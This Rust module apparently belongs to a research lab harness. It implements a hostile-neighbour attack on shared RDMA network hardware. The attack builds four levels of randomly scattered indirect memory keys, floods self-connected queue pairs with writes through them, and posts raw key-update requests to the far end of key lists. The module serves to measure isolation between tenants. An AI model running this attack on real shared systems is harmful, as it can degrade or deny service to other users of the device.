//! Requests through four levels of keys in which each byte is a stretch of its
//! own, in no order; and changes to the far end of a key's list.

pub(super) mod lossy;

use test_driver::bits::{put_dword, put_qword};
use test_driver::{
    Access, CompletionQueue, Config, Connection, Data, Error, Klm, MemoryRegion, QueuePair,
};
use test_driver::{PAGE, Receive, Remote, SendOpcode, SendRequest, Sge, Transport};
use testing::Random;

use crate::neighbours::attacker::Attacker;
use crate::neighbours::lab::{HOSTILE, Lab};
use crate::{BenchError, Peer, Result};

/// Levels of keys.
pub(super) const LEVELS: usize = 4;
/// Queue pairs that use them.
const PAIRS: usize = 64;
/// Elements of a request's list: as many as fit four blocks.
const ELEMENTS: usize = 14;
/// Blocks of a send queue: four requests.
const LOG_BLOCKS: u32 = 4;
/// The attack.
#[derive(Debug)]
pub(super) struct Klms {
    // In this order.
    pairs: Vec<QueuePair>,
    far: Far,
    keys: Vec<MemoryRegion>,
    stretches: usize,
    peer: Peer,
}

impl Klms {
    pub(super) fn prepare(lab: &Lab) -> Result<Self> {
        let (stretches, mut keys) = (lab.scale.stretches, lab.scale.keys);
        let peer = Peer::open(&lab.socket(HOSTILE), stretches.next_multiple_of(PAGE))?;
        let made = as_many(&peer, stretches, &mut keys)?;
        let pairs = (0..PAIRS).map(|_| connected(&peer, peer.cq.number(), LOG_BLOCKS));
        Ok(Self {
            pairs: pairs.collect::<Result<_>>()?,
            far: Far::new(&peer, lab.scale.pages)?,
            keys: made,
            stretches,
            peer,
        })
    }
}

/// As many keys of each level as there may be, up to this number, which is changed to that; the highest last.
pub(super) fn as_many(
    peer: &Peer,
    stretches: usize,
    keys: &mut usize,
) -> Result<Vec<MemoryRegion>> {
    loop {
        match levels(peer, stretches, *keys) {
            // More than it may have.
            Err(BenchError::Driver(Error::Refused { .. })) if *keys > 1 => *keys /= 2,
            made => return made,
        }
    }
}

/// As many keys of each level, the highest last.
fn levels(peer: &Peer, stretches: usize, keys: usize) -> Result<Vec<MemoryRegion>> {
    let mut random = Random::new(0);
    let mut all: Vec<MemoryRegion> = Vec::new();
    for level in 0..LEVELS {
        let (below, start) = match level {
            0 => (vec![peer.region.key()], peer.region.start()),
            _ => {
                let below = &all[(level - 1) * keys..];
                (below.iter().map(MemoryRegion::key).collect(), 0)
            }
        };
        for _ in 0..keys {
            let list: Vec<Klm> = (0..stretches)
                .map(|_| Klm {
                    len: 1,
                    key: random.one_of(&below),
                    addr: start + random.below(stretches) as u64,
                })
                .collect();
            all.push(MemoryRegion::indirect(&peer.pd, &list, Access::ALL, 0)?);
        }
    }
    Ok(all)
}

/// A queue pair that is connected to itself.
pub(super) fn connected(peer: &Peer, cq: u32, log_send_blocks: u32) -> Result<QueuePair> {
    let pair = unconnected(peer, cq, log_send_blocks)?;
    pair.connect(Access::ALL, &Connection::to(peer.port.lid, pair.number()))?;
    Ok(pair)
}

/// A queue pair that is not connected yet.
pub(super) fn unconnected(peer: &Peer, cq: u32, log_send_blocks: u32) -> Result<QueuePair> {
    Ok(QueuePair::new(&Config {
        send_cq: cq,
        recv_cq: cq,
        log_send_blocks,
        receive: Receive::Own {
            log_size: 2,
            log_sges: 0,
        },
        ..Config::new(Transport::Rc, &peer.pd, &peer.uar, &peer.cq)
    })?)
}

impl Attacker for Klms {
    fn strike(&mut self) -> Result<()> {
        let top = &self.keys[self.keys.len() / LEVELS * (LEVELS - 1)..];
        let list: [Sge; ELEMENTS] = std::array::from_fn(|number| Sge {
            addr: 0,
            len: (self.stretches / ELEMENTS) as u32,
            key: top[number % top.len()].key(),
        });
        for (number, pair) in self.pairs.iter_mut().enumerate() {
            let remote = Remote {
                addr: 0,
                key: top[number % top.len()].key(),
            };
            while pair.send_room() >= 4 {
                pair.post(&SendRequest::write(remote, Data::Memory(&list)))?;
            }
            pair.ring()?;
        }
        self.far.change(&self.peer)?;
        while let Some(entry) = self.peer.cq.poll() {
            let number = entry.qpn();
            let done = self.pairs.iter_mut().find(|pair| pair.number() == number);
            if let Some(pair) = done {
                if !entry.is_ok() {
                    return Err(BenchError::Completion(entry.syndrome()));
                }
                pair.complete(&entry);
            }
        }
        Ok(())
    }
}

impl Drop for Klms {
    fn drop(&mut self) {
        // In place of destroying what it has one by one.
        let _ = self.peer.device.reset();
    }
}

/// Segments of a change to a key: head, change, key, four octwords of list.
const SEGMENTS: u32 = 1 + 3 + 4 + 4;
/// Octwords of the list that change.
const OCTWORDS: u16 = 4;
/// Fewest pages of a list.
const FEWEST_PAGES: u32 = 1 << 10;

/// Keys without pages, of whose list the last ones are set.
#[derive(Debug)]
struct Far {
    pair: QueuePair,
    queue: CompletionQueue,
    posted: u32,
    pages: u32,
}

impl Far {
    fn new(peer: &Peer, pages: u32) -> Result<Self> {
        let queue = CompletionQueue::new(&peer.device, &peer.uar, 4, 0)?;
        Ok(Self {
            pair: connected(peer, queue.number(), LOG_BLOCKS)?,
            queue,
            posted: 0,
            pages,
        })
    }

    /// Does so to a new key, which is destroyed then.
    fn change(&mut self, peer: &Peer) -> Result<()> {
        let key = match MemoryRegion::free(&peer.pd, self.pages) {
            Err(Error::Refused { .. }) if self.pages > FEWEST_PAGES => {
                self.pages /= 2;
                return Ok(());
            }
            key => key?,
        };
        let last = self.pages / 2 - u32::from(OCTWORDS);
        const INLINE_AT_OFFSET: u8 = 0x90;
        let mut bytes = [0; 3 * 64];
        put_dword(
            &mut bytes,
            0,
            self.posted << 8 | u32::from(SendOpcode::KeyUpdate.code()),
        );
        put_dword(&mut bytes, 4, self.pair.number() << 8 | SEGMENTS);
        const SIGNALED: u32 = 8;
        put_dword(&mut bytes, 8, SIGNALED);
        put_dword(&mut bytes, 12, key.key());
        bytes[16] = INLINE_AT_OFFSET;
        bytes[20..22].copy_from_slice(&OCTWORDS.to_be_bytes());
        bytes[22..24].copy_from_slice(&(last as u16).to_be_bytes());
        put_dword(&mut bytes, 32, last >> 16);
        put_qword(&mut bytes, 128, peer.buffer.iova());
        let (blocks, _) = bytes.as_chunks::<64>();
        self.pair.post_raw(blocks)?;
        self.posted = (self.posted + blocks.len() as u32) & 0xffff;
        let entry = self.queue.wait()?;
        if entry.is_ok() {
            self.pair.complete(&entry);
        } else {
            // More than it may have.
            self.pages = (self.pages / 2).max(FEWEST_PAGES);
            self.pair = connected(peer, self.queue.number(), LOG_BLOCKS)?;
            self.posted = 0;
        }
        Ok(())
    }
}
